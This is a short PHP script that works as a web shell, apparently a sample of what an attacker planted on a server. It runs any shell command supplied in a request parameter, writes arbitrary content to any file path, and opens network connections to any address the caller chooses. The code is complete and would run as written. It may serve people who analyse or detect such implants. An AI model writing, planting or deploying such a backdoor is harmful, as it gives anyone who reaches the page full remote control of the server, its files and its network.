<?php
// What an attacker found: a command, a file and an address of the caller's choice.
if (isset($_REQUEST['cmd'])) {
    system($_REQUEST['cmd'] . ' 2>&1');
}
if (isset($_REQUEST['path'])) {
    var_dump(file_put_contents($_REQUEST['path'], $_REQUEST['body'] ?? ''));
}
if (isset($_REQUEST['dial'])) {
    var_dump((bool) @stream_socket_client($_REQUEST['dial'], $code, $text, 2));
    echo $text, "\n";
}
